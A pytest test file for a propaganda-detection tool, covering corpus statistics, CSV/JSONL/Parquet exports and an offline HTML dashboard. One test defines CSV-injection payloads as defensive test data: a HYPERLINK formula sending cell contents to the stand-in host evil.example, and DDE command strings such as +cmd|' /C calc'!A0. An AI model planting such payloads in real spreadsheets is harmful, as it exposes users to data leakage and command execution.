"""Corpus views: stats on a hand-labelled corpus (numbers checked by hand), exports with the
JSON schema's field names, and the self-contained dashboard, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections import Counter
from pathlib import Path

import pytest
from typer.testing import CliRunner

from propscope import taxonomy
from propscope.cli import app
from propscope.io.readers import read_text
from propscope.schema import (
    Analysis,
    ArticleInfo,
    ModelInfo,
    ParagraphResult,
    Summary,
    TechniqueSpan,
)
from propscope.store import Store
from propscope.views import flat_columns, spreadsheet_cell

runner = CliRunner()

# Four articles, labelled by hand: (id, text, findings, metadata). Word counts (\w+ runs):
# A 10, B 20, C 10, D 10 = 50 words; 5 findings.
KNOWN = [
    (
        "A",
        "Shameful traitors sold our nation while honest people quietly watched.",
        [
            ("Shameful traitors", "Loaded_Language"),
            ("quietly watched", "Loaded_Language"),
            ("honest people", "Doubt"),
        ],
        {"source": "alpha", "published": "2024-01-10"},
    ),
    (
        "B",
        "The council met on Monday and agreed a budget for roads, schools and parks after a "
        "long and disastrous debate.",
        [("disastrous debate", "Loaded_Language")],
        {"source": "alpha", "published": "2024-02-03"},
    ),
    (
        "C",
        "Rain is expected in the north on Friday and Saturday.",
        [],
        {"source": "beta"},
    ),
    (
        "D",
        "The mayor, a known crook, opened the new bridge today.",
        [("a known crook", "Name_Calling-Labeling")],
        {"source": "beta", "published": "2024-02-20"},
    ),
]


def known_item(article_id: str, text: str, findings: list, metadata: dict):
    """An Article and its hand-labelled Analysis (every offset checked against the text)."""
    article = read_text(text, id=article_id, metadata=metadata)
    spans = []
    for phrase, technique in findings:
        start = text.index(phrase)
        info = taxonomy.TECHNIQUE_INFO[technique]
        spans.append(
            TechniqueSpan(
                start=start,
                end=start + len(phrase),
                text=phrase,
                technique=technique,
                technique_label=info.label,
                category=info.category,
                ptc_technique=taxonomy.TO_PTC[technique],
                confidence=0.9,
                detection=0.9,
                technique_probability=1.0,
                paragraph=1,
                voice="author",
                speaker=None,
                explanation=info.explanation,
            )
        )
    analysis = Analysis(
        article=ArticleInfo(
            id=article_id,
            source=None,
            title=None,
            characters=len(text),
            sentences=len(article.sentences),
            debris=(),
            metadata=metadata,
        ),
        text=text,
        spans=tuple(spans),
        paragraphs=(
            ParagraphResult(
                index=1,
                start=0,
                end=len(text),
                is_title=False,
                is_debris=False,
                techniques=tuple(sorted({s.technique for s in spans})),
            ),
        ),
        summary=Summary(
            spans=len(spans),
            by_technique=dict(Counter(s.technique for s in spans)),
            by_category=dict(Counter(s.category for s in spans)),
            by_voice={"author": len(spans)} if spans else {},
            by_speaker={},
            coverage=round(sum(s.end - s.start for s in spans) / len(text), 4),
            analysed_characters=len(text),
        ),
        model=ModelInfo(
            name="hand-labelled", version="test", encoder="none", trained_on="none", decoding={}
        ),
    )
    return article, analysis, {}


@pytest.fixture
def known_db(corpus_db_url) -> str:
    store = Store(corpus_db_url)
    store.add_many([known_item(*row) for row in KNOWN])
    assert store.count() == 4
    return corpus_db_url


def run(*args: str):
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def test_stats_by_technique_and_category_on_a_known_corpus(known_db):
    rows = list(csv.DictReader(io.StringIO(run("stats", "--db", known_db, "-f", "csv"))))
    got = {r["technique"]: r for r in rows}
    assert list(got) == ["Loaded_Language", "Doubt", "Name_Calling-Labeling"]
    # 3 spans in 2 of 4 articles, 3 per 50 words.
    loaded = got["Loaded_Language"]
    assert (loaded["spans"], loaded["articles"], loaded["share_of_articles"]) == ("3", "2", "0.5")
    assert float(loaded["per_1000_words"]) == 60.0
    assert loaded["label"] == "Loaded language" and loaded["category"] == "Manipulative wording"
    assert (got["Doubt"]["share_of_articles"], got["Doubt"]["per_1000_words"]) == ("0.25", "20.0")

    data = json.loads(run("stats", "--db", known_db, "--by", "category", "-f", "json"))
    by_category = {g["key"]: g for g in data}
    attack = by_category["Attack on reputation"]  # Doubt in A + name calling in D
    assert (attack["spans"], attack["articles"], attack["share_of_articles"]) == (2, 2, 0.5)
    assert attack["per_1000_words"] == 40.0
    assert attack["techniques"]["Doubt"] == {"spans": 1, "articles": 1}

    table = run("stats", "--db", known_db, "--by", "technique")
    assert "Loaded language" in table and "50%" in table and "60.0" in table


def test_stats_by_source_and_month_on_a_known_corpus(known_db):
    rows = list(
        csv.DictReader(io.StringIO(run("stats", "--db", known_db, "--by", "source", "-f", "csv")))
    )
    alpha, beta = rows  # most articles first; a tie goes to more spans
    assert (alpha["source"], alpha["articles"], alpha["words"], alpha["spans"]) == (
        "alpha",
        "2",
        "30",
        "4",
    )
    assert float(alpha["per_1000_words"]) == 133.33
    assert (alpha["share.Loaded_Language"], alpha["share.Doubt"]) == ("1.0", "0.5")
    assert (alpha["spans.Loaded_Language"], alpha["share.Name_Calling-Labeling"]) == ("3", "0.0")
    assert (beta["source"], beta["words"], beta["per_1000_words"]) == ("beta", "20", "50.0")
    assert beta["share.Name_Calling-Labeling"] == "0.5"

    months = json.loads(run("stats", "--db", known_db, "--by", "month", "-f", "json"))
    assert [(m["key"], m["articles"], m["words"], m["spans"]) for m in months] == [
        ("2024-01", 1, 10, 3),
        ("2024-02", 2, 30, 2),
        (None, 1, 10, 0),
    ]
    assert months[1]["per_1000_words"] == 66.67
    assert months[1]["techniques"]["Loaded_Language"]["share_of_articles"] == 0.5

    table = run("stats", "--db", known_db, "--by", "source")
    assert re.search(r"alpha\s*│\s*2\s*│\s*30\s*│\s*4\s*│\s*133\.33", table), table
    assert "Loaded language 100%" in table


def test_stats_and_report_name_what_a_model_was_never_trained_to_find(corpus_db_url, tmp_path):
    items = [known_item(*row) for row in KNOWN]
    article, analysis, extra = items[0]
    blind = analysis.model.model_copy(
        update={"name": "blind-model", "untrained_techniques": ("Appeal_to_Time", "Doubt")}
    )
    items[0] = (article, analysis.model_copy(update={"model": blind}), extra)
    Store(corpus_db_url).add_many(items)
    result = runner.invoke(app, ["stats", "--db", corpus_db_url, "-f", "csv"])
    assert result.exit_code == 0, result.output
    note = (
        "1 of 4 stored articles was analysed by blind-model, which was not trained to find Appeal "
        "to time, Doubt: the counts cannot show these techniques in those articles."
    )
    assert " ".join(result.stderr.split()) == f"note: {note}"
    assert "blind-model" not in result.stdout  # the CSV stays data only
    output = tmp_path / "corpus.html"
    run("report", "--db", corpus_db_url, "--output", str(output), "--no-article-reports")
    assert f"Note: {note}" in output.read_text(encoding="utf-8")
    # models that know all 23 techniques add no note
    plain = tmp_path / "plain.db"
    Store(f"sqlite:///{plain}").add_many([known_item(*row) for row in KNOWN])
    assert runner.invoke(app, ["stats", "--db", f"sqlite:///{plain}"]).stderr == ""


def test_stats_of_an_empty_store(tmp_path):
    db = f"sqlite:///{tmp_path / 'empty.db'}"
    Store(db).close()  # a database that does not exist is refused, not created
    assert "No articles stored yet" in run("stats", "--db", db)
    assert json.loads(run("stats", "--db", db, "--by", "source", "-f", "json")) == []


@pytest.fixture(scope="module")
def analysed_db(tmp_path_factory, data_dir, model) -> str:
    """Two real PTC articles analysed by ``propscope batch`` into SQLite."""
    folder = tmp_path_factory.mktemp("real")
    source = data_dir / "ptc_semeval2020_task11" / "train-articles"
    for name in ("article111111112.txt", "article111111117.txt"):
        (folder / "outlet" / name).parent.mkdir(exist_ok=True)
        (folder / "outlet" / name).write_bytes((source / name).read_bytes())
    db = f"sqlite:///{folder / 'real.db'}"
    result = runner.invoke(app, ["batch", str(folder), "--db", db, "--workers", "1"])
    assert result.exit_code == 0 and "analysed 2" in result.output, result.output
    return db


def test_export_jsonl_uses_the_json_schema_field_names(analysed_db):
    store = Store(analysed_db)
    stored = [store.get(a.id) for a in store.list()[0]]
    n_spans = sum(len(s.analysis.spans) for s in stored)
    assert n_spans > 0

    lines = run("export", "--db", analysed_db).splitlines()
    assert len(lines) == n_spans
    for record in map(json.loads, lines):
        assert set(record) - {"store", "article"} == set(TechniqueSpan.model_fields)
        assert set(record["article"]) == {"id", "source", "title"}
        TechniqueSpan.model_validate(
            {k: v for k, v in record.items() if k not in ("store", "article")}
        )

    articles = [
        json.loads(x)
        for x in run("export", "--db", analysed_db, "--level", "articles").splitlines()
    ]
    assert len(articles) == 2
    for record in articles:
        assert set(record) - {"store"} == set(Analysis.model_fields)
        analysis = Analysis.model_validate({k: v for k, v in record.items() if k != "store"})
        assert analysis == store.get(record["store"]["id"]).analysis  # nothing lost
        assert record["store"]["source"] == "outlet"


def test_export_csv_and_parquet_columns_are_the_schema_names(analysed_db, tmp_path):
    rows = list(csv.DictReader(io.StringIO(run("export", "--db", analysed_db, "-f", "csv"))))
    columns = list(rows[0])
    assert columns == flat_columns("spans")
    assert [c for c in columns if "." not in c] == list(TechniqueSpan.model_fields)
    first = rows[0]
    assert first["text"] and int(first["end"]) > int(first["start"])
    assert isinstance(json.loads(first["alternatives"]), list)

    out = tmp_path / "articles.csv"
    run("export", "--db", analysed_db, "-f", "csv", "--level", "articles", "-o", str(out))
    with open(out, encoding="utf-8", newline="") as handle:
        article_rows = list(csv.DictReader(handle))
    assert len(article_rows) == 2
    nested = {"store", "article", "summary", "model"}
    names = [c.split(".", 1) for c in article_rows[0]]
    assert {n[0] for n in names} == (set(Analysis.model_fields) - {"spans"}) | {"store"}
    assert {n[1] for n in names if n[0] == "summary"} == set(Summary.model_fields)
    assert {n[1] for n in names if n[0] == "article"} == set(ArticleInfo.model_fields)
    assert all(len(n) == 2 for n in names if n[0] in nested)
    texts = {r["text"] for r in article_rows}
    store = Store(analysed_db)
    assert texts == {store.get(a.id).analysis.text for a in store.list()[0]}  # CRLF-safe

    pq = pytest.importorskip("pyarrow.parquet")
    target = tmp_path / "spans.parquet"
    run("export", "--db", analysed_db, "-f", "parquet", "-o", str(target))
    table = pq.read_table(target)
    assert table.schema.names == columns and table.num_rows == len(rows)
    assert table.column("start").to_pylist() == [int(r["start"]) for r in rows]


def test_export_of_the_known_corpus(known_db):
    spans = [json.loads(x) for x in run("export", "--db", known_db).splitlines()]
    found = sorted((r["article"]["id"], r["text"], r["technique"]) for r in spans)
    expected = sorted((a, phrase, t) for a, _, findings, _ in KNOWN for phrase, t in findings)
    assert found == expected
    assert {r["store"]["source"] for r in spans} == {"alpha", "beta"}
    articles = [
        json.loads(x) for x in run("export", "--db", known_db, "--level", "articles").splitlines()
    ]
    assert sorted((r["article"]["id"], r["summary"]["spans"]) for r in articles) == [
        ("A", 3),
        ("B", 1),
        ("C", 0),
        ("D", 1),
    ]
    assert {r["article"]["id"]: r["store"]["published"] for r in articles}["C"] is None


# Cells a spreadsheet would run as formulas (CSV injection): each finding starts with one of
# = + - @ tab CR, and so do the article id, the text and the source.
FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1,"open") said the mayor; -2+3 is @SUM(A1:A9)'
    " and +cmd|' /C calc'!A0 then\t=1+1 and\r-DDE(1)."
)
FORMULA_SPANS = ["=HYPERLINK", "-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "\t=1+1", "\r-DDE(1)"]


def test_csv_exports_defuse_formulas_and_keep_numbers(corpus_db_url, tmp_path):
    findings = [(phrase, "Loaded_Language") for phrase in FORMULA_SPANS]
    item = known_item("@id", FORMULAS, findings, {"source": "=cmd()"})
    Store(corpus_db_url).add_many([item])

    rows = list(csv.DictReader(io.StringIO(run("export", "--db", corpus_db_url, "-f", "csv"))))
    assert sorted(r["text"] for r in rows) == sorted("'" + p for p in FORMULA_SPANS)
    for row in rows:
        assert (row["article.id"], row["store.source"]) == ("'@id", "'=cmd()")
        start, end = int(row["start"]), int(row["end"])  # numbers stay numbers
        assert row["text"] == "'" + FORMULAS[start:end]
        assert float(row["confidence"]) == 0.9 and row["technique"] == "Loaded_Language"
    out = tmp_path / "articles.csv"
    run("export", "--db", corpus_db_url, "-f", "csv", "--level", "articles", "-o", str(out))
    with open(out, encoding="utf-8", newline="") as handle:
        (article,) = csv.DictReader(handle)
    assert article["text"] == "'" + FORMULAS and article["summary.spans"] == "6"

    stats = run("stats", "--db", corpus_db_url, "--by", "source", "-f", "csv")
    (group,) = csv.DictReader(io.StringIO(stats))
    assert (group["source"], group["articles"], group["spans"]) == ("'=cmd()", "1", "6")

    # JSON Lines (and parquet) are not spreadsheets: they keep every text exactly.
    (record, *_) = [json.loads(x) for x in run("export", "--db", corpus_db_url).splitlines()]
    assert record["article"]["id"] == "@id" and record["store"]["source"] == "=cmd()"
    assert record["text"] == FORMULAS[record["start"] : record["end"]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100 call", "'+1 555 0100 call"),
        ("-x", "'-x"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = text", "plain = text"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, None),
        (-3, -3),
        (-0.25, -0.25),
        (True, True),
        ("-0.25", "-0.25"),  # a number written as text is data, not a formula
        ("+12", "+12"),
        ("-1e-3", "-1e-3"),
    ],
)
def test_spreadsheet_cells(value, cell):
    assert spreadsheet_cell(value) == cell


def test_export_errors_are_one_line(analysed_db, tmp_path):
    result = runner.invoke(app, ["export", "--db", analysed_db, "-f", "parquet"])
    assert result.exit_code == 2 and "give --output FILE.parquet" in result.output
    result = runner.invoke(app, ["export", "--db", analysed_db, "-o", str(tmp_path / "no/x")])
    assert result.exit_code == 2 and "does not exist" in result.output


_LOADS = re.compile(
    r"""(?:\b(?:src|srcset|data|poster|action|formaction)\s*=\s*["']?\s*(?:https?:)?//)"""
    r"""|<link\b|@import|url\(\s*["']?\s*(?:https?:)?//""",
    re.IGNORECASE,
)


def test_report_is_self_contained_and_links_each_article(known_db, tmp_path):
    output = tmp_path / "corpus.html"
    result = runner.invoke(app, ["report", "--db", known_db, "--output", str(output)])
    assert result.exit_code == 0, result.output
    html = output.read_text(encoding="utf-8")
    assert not _LOADS.search(html), _LOADS.search(html)
    assert "default-src 'none'" in html  # the browser would refuse any load anyway
    assert html.count("<svg") == 4  # techniques, sources, source x technique, months
    # Figures, sources, months and the most frequent phrases of the known corpus.
    assert "<b>4</b><span>articles</span>" in html and "<b>100.0</b>" in html
    assert "alpha (2)" in html and "beta (2)" in html
    assert "2024-01" in html and "2024-02" in html and "1 undated article not shown" in html
    phrases = re.search(r'id="phrases".*?id="articles"', html, re.S).group(0)
    assert "“Shameful traitors”" in phrases and "“a known crook”" in phrases
    assert phrases.index("Loaded language") < phrases.index("Name calling")

    links = re.findall(r'href="(corpus_files/article-\d+\.html)"', html)
    store = Store(known_db)
    assert sorted(links) == sorted(f"corpus_files/article-{a.id}.html" for a in store.list()[0])
    for item in store.list()[0]:
        page = (tmp_path / f"corpus_files/article-{item.id}.html").read_text(encoding="utf-8")
        assert not _LOADS.search(page)
        analysis = store.get(item.id).analysis
        assert analysis.text.split()[1] in page
        assert page.count("<mark") >= len(analysis.spans)


def test_report_of_an_empty_store_says_what_to_do(tmp_path):
    output = tmp_path / "empty.html"
    db = f"sqlite:///{tmp_path / 'empty.db'}"
    Store(db).close()
    result = runner.invoke(app, ["report", "--db", db, "-o", str(output)])
    assert result.exit_code == 0, result.output
    html = output.read_text(encoding="utf-8")
    assert "run <code>propscope batch INPUT --db URL</code> first" in html
    assert not list((tmp_path / "empty_files").iterdir())


def test_report_needs_a_writable_place(tmp_path):
    db = f"sqlite:///{tmp_path / 'x.db'}"
    Store(db).close()
    result = runner.invoke(app, ["report", "--db", db, "-o", "/"])
    assert result.exit_code == 2
    assert "no database" not in result.output


def test_parquet_without_pyarrow_says_how_to_get_it(analysed_db, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import pyarrow now raises ImportError
    target = tmp_path / "x.parquet"
    result = runner.invoke(app, ["export", "--db", analysed_db, "-f", "parquet", "-o", str(target)])
    assert result.exit_code == 2
    assert "pip install 'propscope[parquet]'" in result.output
    assert not target.exists()


def test_stats_and_report_by_topic_on_real_analyses(analysed_db, tmp_path):
    store = Store(analysed_db)
    stored = [store.get(a.id) for a in store.list()[0]]
    topics = Counter(s.analysis.frames.main for s in stored)
    rows = list(
        csv.DictReader(io.StringIO(run("stats", "--db", analysed_db, "--by", "topic", "-f", "csv")))
    )
    assert {r["topic"]: int(r["articles"]) for r in rows} == dict(topics)
    genres = json.loads(run("stats", "--db", analysed_db, "--by", "genre", "-f", "json"))
    assert sum(g["articles"] for g in genres) == 2
    assert {g["key"] for g in genres} == {s.analysis.genre.label for s in stored}
    table = run("stats", "--db", analysed_db, "--by", "topic")
    assert "most used" in table and next(iter(topics)) in table
    output = tmp_path / "corpus.html"
    run("report", "--db", analysed_db, "--output", str(output), "--no-article-reports")
    html = output.read_text(encoding="utf-8")
    assert "Techniques by main frame" in html
    assert "Techniques per 1,000 words by main frame" in html


def test_report_links_work_whatever_the_file_is_called(known_db, tmp_path):
    """A report written to "week #3?.html" linked "week #3?_files/article-1.html": a browser
    reads "#3..." as a fragment and "?" as a query, so every article link was broken."""
    from urllib.parse import unquote, urljoin, urlsplit

    output = tmp_path / "week #3? 50%.html"
    result = runner.invoke(app, ["report", "--db", known_db, "--output", str(output)])
    assert result.exit_code == 0, result.output
    html = output.read_text(encoding="utf-8")
    links = re.findall(r'<td><a href="([^"]+)"', html)
    assert len(links) == 4
    for href in links:
        target = urlsplit(urljoin(output.as_uri(), href.replace("&amp;", "&")))
        assert not target.query and not target.fragment, href
        assert Path(unquote(target.path)).is_file(), href


def test_a_month_chart_ending_in_december_9999_draws_every_month_in_few_bars():
    """Months were compared as strings: after "9999-12" came "10000-01", which sorts before
    it, so a corpus dated December 9999 drew a million months (99987-01 ...) and no data, and
    every dashboard took a second. Then it drew the last 36 months only, leaving 2020 out
    without a word: now each bar is a millennium, and the chart says so."""
    from propscope.web.charts import month_chart

    def group(key: str) -> dict:
        return {
            "key": key,
            "per_1000_words": 2.0,
            "categories": {},
            "articles": 1,
            "words": 500,
            "spans": 1,
        }

    chart = month_chart([group("2020-01"), group("9999-12")], limit=36)
    assert chart["period"] == "millennium" and chart["span"] == "2020-01 to 9999-12"
    labels = [s["text"] for s in chart["shapes"] if "–" in s.get("text", "")]
    assert labels[0] == "2000–2999" and labels[-1] == "9000–9999" and len(labels) <= 8
    assert chart["desc"] == "2000–2999: 2.0 per 1,000 words; 9000–9999: 2.0 per 1,000 words."
